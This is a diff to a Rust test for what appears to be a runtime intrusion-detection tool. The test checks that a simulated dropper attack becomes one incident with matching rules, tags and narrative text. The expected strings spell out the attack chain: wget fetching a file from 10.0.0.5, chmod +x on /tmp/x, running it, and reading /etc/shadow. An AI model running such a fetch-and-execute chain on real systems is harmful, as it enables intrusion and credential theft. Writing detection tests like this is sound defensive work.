@@ -29,12 +29,15 @@ fn a_dropper_is_one_incident_that_tells_its_story() {
     let [incident] = world.incidents()[..] else { panic!("{:#?}", world.incidents()) };
     assert_eq!(rules(incident), ["dropped", "secret", "shell", "download"]);
     assert_eq!(incident.tags, ["command-and-control", "credential-access", "defense-evasion", "execution"]);
-    assert!(incident.text.starts_with("In web-1 (localhost/web), nginx started sh -c "), "{}", incident.text);
+    assert!(
+        incident.text.starts_with("In web-1 (localhost/web), nginx started /bin/sh -c "),
+        "{}",
+        incident.text
+    );
     for part in [
-        "started wget http://10.0.0.5/x",
+        "which started /usr/bin/wget http://10.0.0.5/x, /bin/chmod +x /tmp/x and /tmp/x, which opened /etc/shadow.",
         "wget connected to 10.0.0.5:80 and wrote /tmp/x.",
         "chmod changed the mode of /tmp/x.",
-        "which opened /etc/shadow",
         "/tmp/x was executed, which is not in the image (dropped, high, ",
     ] {
         assert!(incident.text.contains(part), "{part}: {}", incident.text);
